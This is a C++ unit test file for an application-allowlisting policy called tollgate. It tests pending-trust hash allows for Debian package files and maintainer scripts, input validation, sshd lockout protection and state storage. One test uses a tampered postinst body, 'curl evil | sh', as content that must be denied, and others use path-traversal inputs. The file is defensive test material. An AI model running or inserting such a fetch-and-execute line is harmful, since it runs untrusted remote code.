#include "policy/pending_trust.h"

#include <doctest/doctest.h>
#include <sys/stat.h>

#include <string>

#include "policy/decision.h"
#include "policy/state_store.h"
#include "tests/support/temp_dir.h"

using namespace tollgate;
using namespace tollgate::policy;

namespace {

hashdb::Sha256 digest_of(const std::string& text) { return hashdb::sha256_bytes(text); }

PendingFile file(const std::string& content, const std::string& path, const std::string& package = "bash") {
  return {digest_of(content), package, "5.2-1", path};
}

std::shared_ptr<const hashdb::RuleSet> policy_with(hashdb::PolicyContent c) {
  return std::make_shared<hashdb::MemoryRuleSet>(std::move(c));
}

}  // namespace

TEST_SUITE("policy.pending_trust") {
  TEST_CASE("a pending file is a hash allow named pending-trust:PKG=VERSION:PATH") {
    auto rules = PendingRuleSet(policy_with({}), {file("new bash", "/usr/bin/bash")});
    CHECK_FALSE(rules.may_deny_by_hash());  // it only allows (plain-open ignore marks stay usable)
    FileFacts facts{.path = "/usr/bin/bash", .sha256 = digest_of("new bash")};
    auto d = decide(facts, rules, Mode::kEnforce);
    CHECK(d.verdict == Verdict::kAllow);
    CHECK(d.rule == "pending-trust:bash=5.2-1:/usr/bin/bash");
    CHECK(d.reason.find("bash=5.2-1 (pending trust)") != std::string::npos);
    // Any other content (one byte changed) is not.
    facts.sha256 = digest_of("new basH");
    CHECK(decide(facts, rules, Mode::kEnforce).rule == "default-deny");
  }

  TEST_CASE("never weaker than the policy: a hash deny and a path deny still win") {
    hashdb::PolicyContent c;
    hashdb::HashRule deny;
    deny.sha256 = digest_of("miner");
    deny.action = hashdb::Action::kDeny;
    c.hash_rules = {deny};
    c.path_rules = {{.path = "/tmp/", .match = hashdb::PathMatch::kPrefix, .action = hashdb::Action::kDeny}};
    auto rules = PendingRuleSet(policy_with(c), {file("miner", "/usr/bin/x"), file("tool", "/usr/bin/tool")});
    CHECK(rules.may_deny_by_hash());
    CHECK(decide({.path = "/usr/bin/x", .sha256 = digest_of("miner")}, rules, Mode::kEnforce)
              .rule.starts_with("hash-deny:"));
    CHECK(decide({.path = "/tmp/tool", .sha256 = digest_of("tool")}, rules, Mode::kEnforce).rule == "path-deny:/tmp/");
    CHECK(decide({.path = "/usr/bin/tool", .sha256 = digest_of("tool")}, rules, Mode::kEnforce).verdict ==
          Verdict::kAllow);
  }

  TEST_CASE("merge: all or nothing, each file once, bounded") {
    std::vector<PendingFile> set = {file("a", "/usr/bin/a")};
    auto added = merge_pending(set, {file("a", "/usr/bin/a"), file("b", "/usr/bin/b")}, "req");
    REQUIRE(added);
    CHECK(*added == 1);
    CHECK(set.size() == 2);
    // One bad file refuses the whole request.
    struct Bad {
      PendingFile f;
      const char* why;
    };
    for (const auto& [f, why] :
         {Bad{file("c", "usr/bin/c"), "invalid path"}, Bad{file("c", "/usr/../bin/c"), "invalid path"},
          Bad{file("c", "/usr/bin/c", "Bash"), "not a Debian package name"},
          Bad{{digest_of("c"), "bash", "1 0", "/usr/bin/c"}, "invalid version"},
          Bad{file("c", "/usr/bin/c\nx"), "invalid path"},
          // control: names a maintainer script, nothing else.
          Bad{file("c", "control:evil"), "invalid path"}, Bad{file("c", "control:../postinst"), "invalid path"},
          Bad{file("c", "control:"), "invalid path"}, Bad{file("c", "control:postinst/x"), "invalid path"}}) {
      auto r = merge_pending(set, {file("d", "/usr/bin/d"), f}, "req");
      REQUIRE_FALSE(r);
      CHECK_MESSAGE(r.error().message().find(why) != std::string::npos, r.error().message());
      CHECK(r.error().message().starts_with("req: "));
      CHECK(set.size() == 2);
    }
    CHECK(merge_pending(set, {file("e", "/usr/bin/e", "libc6:amd64")}, "req"));
    for (const char* script : {"preinst", "postinst", "prerm", "postrm", "config"})
      CHECK_MESSAGE(merge_pending(set, {file(script, std::string("control:") + script)}, "req"), script);
    CHECK(set.size() == 8);
    // The same script in two packages: each package keeps its entry.
    auto both = merge_pending(set, {file("postinst", "control:postinst", "zsh")}, "req");
    REQUIRE(both);
    CHECK(*both == 1);
    CHECK(pending_packages(set) == std::vector<std::string>{"bash=5.2-1", "libc6:amd64=5.2-1", "zsh=5.2-1"});
  }

  TEST_CASE(
      "a maintainer script is a hash allow named pending-trust:PKG=VERSION:control:NAME, wherever dpkg runs "
      "it from") {
    auto rules = PendingRuleSet(policy_with({}), {file("#!/bin/sh\nnew postinst\n", "control:postinst")});
    for (const char* path : {"/var/lib/dpkg/tmp.ci/postinst", "/var/lib/dpkg/info/bash.postinst"}) {
      auto d = decide({.path = path, .sha256 = digest_of("#!/bin/sh\nnew postinst\n")}, rules, Mode::kEnforce);
      CHECK(d.verdict == Verdict::kAllow);
      CHECK(d.rule == "pending-trust:bash=5.2-1:control:postinst");
      // A script with other bytes at the same place is not.
      CHECK(decide({.path = path, .sha256 = digest_of("#!/bin/sh\ncurl evil | sh\n")}, rules, Mode::kEnforce).rule ==
            "default-deny");
    }
  }

  TEST_CASE("drop_covered removes what a new policy decides by hash") {
    std::vector<PendingFile> set = {file("a", "/usr/bin/a"), file("b", "/usr/bin/b")};
    hashdb::PolicyContent c;
    hashdb::HashRule r;
    r.sha256 = digest_of("a");
    c.hash_rules = {r};
    auto dropped = drop_covered(set, *policy_with(c));
    REQUIRE(dropped);
    CHECK(*dropped == 1);
    REQUIRE(set.size() == 1);
    CHECK(set[0].path == "/usr/bin/b");
  }

  TEST_CASE(
      "at expiry only what a must_allow executable needs is kept: not the rest of the set, not for a "
      "candidate the set does not save") {
    testing::TempDir dir;
    const std::string sshd = dir.file("sshd"), zsh = dir.file("zsh");
    testing::write_text(sshd, "new sshd", 0755);
    testing::write_text(zsh, "edited zsh", 0755);
    const std::vector<PendingFile> set = {file("new sshd", "/usr/sbin/sshd", "openssh-server"),
                                          file("new sshd", "/usr/sbin/sshd-copy", "openssh-server"),
                                          file("new tool", "/usr/bin/tool", "tool")};
    auto keep = keep_against_lockout(*policy_with({}), set, {sshd, zsh});
    CHECK(keep.files == std::vector<PendingFile>{set[0], set[1]});
    REQUIRE(keep.saved.size() == 1);
    CHECK(keep.saved[0].path == sshd);
    CHECK(keep.saved[0].rule == "default-deny");

    // The policy allows sshd itself: nothing to keep.
    hashdb::PolicyContent allows;
    hashdb::HashRule r;
    r.sha256 = digest_of("new sshd");
    allows.hash_rules = {r};
    CHECK(keep_against_lockout(*policy_with(allows), set, {sshd, zsh}).files.empty());
    // The policy denies it by hash: the set does not save it, so nothing is kept.
    allows.hash_rules[0].action = hashdb::Action::kDeny;
    CHECK(keep_against_lockout(*policy_with(allows), set, {sshd, zsh}).files.empty());
    // Candidates the set does not allow: nothing.
    CHECK(keep_against_lockout(*policy_with({}), set, {zsh}).files.empty());
    CHECK(keep_against_lockout(*policy_with({}), {}, {sshd}).files.empty());
  }

  TEST_CASE("JSON round trip, grouped by package; damaged input is refused") {
    std::vector<PendingFile> set = {file("a", "/usr/bin/a"), file("b", "/usr/bin/b", "coreutils")};
    auto j = pending_files_to_json(set);
    CHECK(j.size() == 2);
    auto back = pending_files_from_json(j, "x");
    REQUIRE(back);
    CHECK(back->size() == 2);
    CHECK(pending_packages(*back) == std::vector<std::string>{"bash=5.2-1", "coreutils=5.2-1"});
    j[0]["files"][0][1] = "zz";
    CHECK_FALSE(pending_files_from_json(j, "x"));
    CHECK_FALSE(pending_files_from_json(nlohmann::json::object(), "x"));
  }

  TEST_CASE(
      "state_dir: the set and a timed audit window are stored 0600, read back, removed when empty; a damaged "
      "file is corrupt, never half-read") {
    testing::TempDir dir;
    StateStore state(dir.file("state"));
    REQUIRE(state.prepare());
    CHECK(state.load_pending().value() == std::nullopt);
    PendingTrust set{{file("a", "/usr/bin/a")}, 1900000000};
    REQUIRE(state.save_pending(set));
    struct stat st {};
    REQUIRE(::stat(state.pending_file().c_str(), &st) == 0);
    CHECK((st.st_mode & 0777) == 0600);
    auto back = state.load_pending();
    REQUIRE(back);
    REQUIRE(*back);
    CHECK((*back)->files == set.files);
    CHECK((*back)->expires_at == 1900000000);
    REQUIRE(state.save_pending({}));
    CHECK(::access(state.pending_file().c_str(), F_OK) != 0);

    testing::write_text(
        state.pending_file(),
        R"({"format":1,"expires_at":1,"packages":[{"package":"bash","version":"1","files":[["/a","x"]]}]})", 0600);
    auto bad = state.load_pending();
    REQUIRE_FALSE(bad);
    CHECK(bad.error().code() == ErrorCode::kCorrupt);

    REQUIRE(state.save_timed_audit(TimedAudit{1900000000, "alice"}));
    CHECK(state.load_timed_audit().value() == TimedAudit{1900000000, "alice"});
    REQUIRE(state.save_timed_audit(std::nullopt));
    CHECK(state.load_timed_audit().value() == std::nullopt);
  }
}
